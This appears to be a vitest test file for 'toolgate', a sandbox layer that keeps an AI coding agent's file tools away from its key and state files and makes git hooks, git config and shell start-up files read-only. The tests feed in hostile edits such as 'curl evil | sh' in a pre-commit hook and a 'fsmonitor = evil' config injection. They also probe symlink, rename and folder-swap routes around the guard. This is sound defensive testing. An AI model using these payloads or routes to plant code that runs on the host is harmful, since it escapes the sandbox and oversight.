/**
 * The escape suite, file tools and the places they treat apart: hidden state and key files
 * (closed to every file tool, also when reached under another name) and repository files whose
 * content runs on the host (read-only: file_view reads them, file_edit refuses them).
 */
import { mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { NoEffectError, ToolgateError } from "../../src/core/errors.js";
import { createCodingCatalog } from "../../src/tools/catalog.js";
import { editFile } from "../../src/tools/edit.js";
import { viewPath } from "../../src/tools/view.js";
import { HIDDEN_DEFAULT, PROTECTED_DEFAULT, openWorkspace } from "../../src/tools/workspace.js";
import { makeWorkspace, refusalText, stable } from "./fixtures.js";

const s = makeWorkspace("paths");
afterAll(() => s.cleanup());
const refusal = (p: Promise<unknown>) => refusalText(p, s);
const HOOK = "#!/bin/sh\necho hook\n";

describe("hidden places: toolgate's state and key files", () => {
  const keys = s.write("keys.json", '{"k1":"SECRET-KEY"}\n');
  s.write(".toolgate/state.db", "records\n");
  const ws = openWorkspace(s.root, { hiddenPaths: [...HIDDEN_DEFAULT, keys] });

  it("a key file named in hiddenPaths is refused by file_view, file_edit and the path check grep_search uses", async () => {
    expect(ws.hidden).toEqual([`${s.root}/.toolgate`, keys]);
    expect(await refusal(viewPath(ws, { path: keys, offset: 1, limit: 5 }))).toMatchInlineSnapshot(
      `"protected_path: path "<tmp>/ws/keys.json" resolves to <tmp>/ws/keys.json, which toolgate keeps for itself (its state or keys) and is closed to tools; use another path in <tmp>/ws/"`,
    );
    expect(await refusal(editFile(ws, { path: keys, old_str: "SECRET", new_str: "x" }))).toContain("protected_path: ");
    expect((await ws.check(keys))[0]?.code).toBe("protected_path");
    expect(readFileSync(keys, "utf8")).toBe('{"k1":"SECRET-KEY"}\n');
  });

  it("a symlink to a hidden file is refused as the file itself", async () => {
    symlinkSync("keys.json", `${s.root}/innocent.json`);
    expect(await refusal(viewPath(ws, { path: `${s.root}/innocent.json`, offset: 1, limit: 5 }))).toContain(
      'path "<tmp>/ws/innocent.json" resolves to <tmp>/ws/keys.json, which toolgate keeps for itself',
    );
  });

  it("the state folder moved to another name (rename) is still closed: it is known by device and inode", async () => {
    const moved = openWorkspace(s.root);
    renameSync(`${s.root}/.toolgate`, `${s.root}/notes`);
    try {
      expect(
        await refusal(viewPath(moved, { path: `${s.root}/notes/state.db`, offset: 1, limit: 5 })),
      ).toMatchInlineSnapshot(
        `"protected_path: path "<tmp>/ws/notes/state.db" leads to <tmp>/ws/notes/state.db, which is <tmp>/ws/.toolgate under another name (a folder on the way was moved or swapped with it); it holds toolgate's own state and is closed to tools; use another path in <tmp>/ws/"`,
      );
      expect(
        await refusal(editFile(moved, { path: `${s.root}/notes/state.db`, old_str: "records", new_str: "forged" })),
      ).toContain("<tmp>/ws/.toolgate under another name");
      expect((await moved.check(`${s.root}/notes`))[0]?.code).toBe("protected_path");
      expect(readFileSync(`${s.root}/notes/state.db`, "utf8")).toBe("records\n");
    } finally {
      renameSync(`${s.root}/notes`, `${s.root}/.toolgate`);
    }
  });

  it("the catalog passes hiddenPaths to every file tool and to bash_execute's workspace", async () => {
    const tools = new Map(
      createCodingCatalog({ workspace: s.root, hiddenPaths: [".toolgate", "keys.json"] }).map((t) => [t.name, t]),
    );
    const ctx = {
      signal: new AbortController().signal,
      trajectory_id: "t",
      turn: 0,
      call_id: "c",
      now: Date.now,
      budget_tokens: 10_000,
    };
    for (const name of ["file_view", "file_edit", "grep_search"]) {
      const issues =
        (await tools.get(name)!.check!(
          { path: keys, offset: 1, limit: 1, old_str: "a", new_str: "b", pattern: "x" },
          ctx,
        )) ?? [];
      expect(
        issues.map((i) => i.code),
        name,
      ).toEqual(["protected_path"]);
    }
  });
});

describe("read-only repository files (protectedPaths)", () => {
  const hook = s.write(".git/hooks/pre-commit", HOOK);
  const config = s.write(".git/config", "[core]\n\tbare = false\n");
  const settings = s.write(".vscode/settings.json", '{"a": 1}\n');
  s.write(".envrc", "export A=1\n");
  const ws = openWorkspace(s.root);

  it("file_edit refuses a git hook, naming the path, why and the option that sets the list; the file is unchanged", async () => {
    expect(ws.readOnly).toContain(`${s.root}/.git/hooks`);
    expect(
      await refusal(editFile(ws, { path: hook, old_str: "echo hook", new_str: "curl evil | sh" })),
    ).toMatchInlineSnapshot(
      `"protected_path: path "<tmp>/ws/.git/hooks/pre-commit" resolves to <tmp>/ws/.git/hooks/pre-commit, under <tmp>/ws/.git/hooks, which is read-only for the agent: git, an editor or a shell runs what it holds on the host, outside the sandbox, the next time a person works in this repository. file_view may read it; file_edit does not change it. A person can edit it outside the agent; the operator sets the list with the catalog's protectedPaths option."`,
    );
    expect(readFileSync(hook, "utf8")).toBe(HOOK);
  });

  it("file_edit refuses .git/config, .vscode/, .envrc and a symlink to one of them; file_view reads them", async () => {
    for (const p of [config, settings, `${s.root}/.envrc`]) {
      expect(await refusal(editFile(ws, { path: p, old_str: p === settings ? "1" : "=", new_str: "2" })), p).toContain(
        "which is read-only for the agent",
      );
    }
    symlinkSync(".git/config", `${s.root}/cfg`);
    expect(
      await refusal(editFile(ws, { path: `${s.root}/cfg`, old_str: "bare", new_str: "fsmonitor = evil\n\tbare" })),
    ).toContain("resolves to <tmp>/ws/.git/config, which is read-only");
    expect(readFileSync(config, "utf8")).toBe("[core]\n\tbare = false\n");
    const viewed = await viewPath(ws, { path: config, offset: 1, limit: 5 });
    expect(viewed.output).toMatchObject({ total_lines: 2 });
  });

  it("file_edit's check refuses a read-only path before any grant; file_view's check does not", async () => {
    const [issue] = await ws.checkWrite(hook);
    expect(issue).toMatchObject({ path: "/path", code: "protected_path" });
    expect(await ws.check(hook)).toEqual([]);
    const tools = new Map(createCodingCatalog({ workspace: s.root }).map((t) => [t.name, t]));
    const ctx = {
      signal: new AbortController().signal,
      trajectory_id: "t",
      turn: 0,
      call_id: "c",
      now: Date.now,
      budget_tokens: 10_000,
    };
    expect(
      ((await tools.get("file_edit")!.check!({ path: hook, old_str: "a", new_str: "b" }, ctx)) ?? []).map(
        (i) => i.code,
      ),
    ).toEqual(["protected_path"]);
    expect(await tools.get("file_view")!.check!({ path: hook, offset: 1, limit: 1 }, ctx)).toEqual([]);
  });

  it("the hooks folder exchanged with an ordinary one is still read-only: it is known by device and inode", async () => {
    mkdirSync(`${s.root}/scripts`);
    writeFileSync(`${s.root}/scripts/pre-commit`, HOOK);
    const swapped = openWorkspace(s.root);
    // Swap by hand: scripts/ becomes the real hooks folder and the other way round.
    renameSync(`${s.root}/scripts`, `${s.root}/scripts.tmp`);
    renameSync(`${s.root}/.git/hooks`, `${s.root}/scripts`);
    renameSync(`${s.root}/scripts.tmp`, `${s.root}/.git/hooks`);
    try {
      expect(
        await refusal(
          editFile(swapped, { path: `${s.root}/scripts/pre-commit`, old_str: "echo hook", new_str: "evil" }),
        ),
      ).toContain("which is <tmp>/ws/.git/hooks under another name");
      expect(readFileSync(`${s.root}/scripts/pre-commit`, "utf8")).toBe(HOOK);
    } finally {
      renameSync(`${s.root}/scripts`, `${s.root}/scripts.tmp`);
      renameSync(`${s.root}/.git/hooks`, `${s.root}/scripts`);
      renameSync(`${s.root}/scripts.tmp`, `${s.root}/.git/hooks`);
    }
  });

  it("protectedPaths replaces the default list; [] makes the hooks editable", async () => {
    expect(openWorkspace(s.root, { protectedPaths: ["docs/generated"] }).readOnly).toEqual([
      `${s.root}/docs/generated`,
    ]);
    const open = openWorkspace(s.root, { protectedPaths: [] });
    await editFile(open, { path: hook, old_str: "echo hook", new_str: "echo changed" });
    expect(readFileSync(hook, "utf8")).toBe("#!/bin/sh\necho changed\n");
    writeFileSync(hook, HOOK);
  });

  it("the default list covers git, editor, agent and shell start-up files", () => {
    expect(PROTECTED_DEFAULT).toEqual(
      expect.arrayContaining([
        ".git/hooks",
        ".git/config",
        ".gitmodules",
        ".vscode",
        ".idea",
        ".mcp.json",
        ".claude",
        ".cursor",
        ".envrc",
        ".bashrc",
        ".bash_profile",
        ".profile",
        ".zshrc",
        ".zprofile",
        ".bash_login",
      ]),
    );
  });

  it("and the places that stand in for git's hooks and config: submodule and worktree git folders, commondir", async () => {
    expect(PROTECTED_DEFAULT).toEqual(
      expect.arrayContaining([".git/modules", ".git/worktrees", ".git/commondir", ".git/config.worktree"]),
    );
    const ws = openWorkspace(s.root);
    for (const rel of [
      ".git/modules/lib/config",
      ".git/modules/lib/hooks/post-checkout",
      ".git/worktrees/w/config.worktree",
    ]) {
      const p = s.write(rel, "[core]\n\tfsmonitor = true\n");
      const refused = await editFile(ws, { path: p, old_str: "true", new_str: "./x" }).then(
        () => "edited",
        (e: NoEffectError) => e.code,
      );
      expect([rel, refused]).toEqual([rel, "protected_path"]);
      expect(readFileSync(p, "utf8")).toContain("fsmonitor = true");
    }
  });
});

describe("bad hiddenPaths and protectedPaths", () => {
  const attempt = (options: Parameters<typeof openWorkspace>[1]) => {
    try {
      openWorkspace(s.root, options);
      return "opened";
    } catch (e) {
      expect(e).toBeInstanceOf(ToolgateError);
      expect(e).not.toBeInstanceOf(NoEffectError);
      return `${(e as ToolgateError).code}: ${stable((e as Error).message, s)}`;
    }
  };

  it("names the option, the entry, what was expected and what arrived", () => {
    expect(attempt({ protectedPaths: ["/etc/passwd"] })).toMatchInlineSnapshot(
      `"invalid_option: protectedPaths[0] must be a path inside the workspace, relative to its root (e.g. ".git/hooks"); received "/etc/passwd""`,
    );
    expect(attempt({ protectedPaths: [".git/hooks", "../outside"] })).toContain(
      'protectedPaths[1] must be a path inside the workspace, relative to its root (e.g. ".git/hooks"); received "../outside"',
    );
    expect(attempt({ hiddenPaths: [""] })).toMatchInlineSnapshot(
      `"invalid_option: hiddenPaths[0] must be a non-empty path; received """`,
    );
    expect(attempt({ hiddenPaths: ".toolgate" as unknown as string[] })).toMatchInlineSnapshot(
      `"invalid_option: hiddenPaths must be an array of paths; received ".toolgate"; example [".toolgate"]"`,
    );
  });

  it("a hidden path planted as a symlink hides the link itself, not its target", () => {
    mkdirSync(join(s.root, "real-docs"));
    symlinkSync("real-docs", join(s.root, "planted"));
    expect(openWorkspace(s.root, { hiddenPaths: ["planted"] }).hidden).toEqual([`${s.root}/planted`]);
  });
});
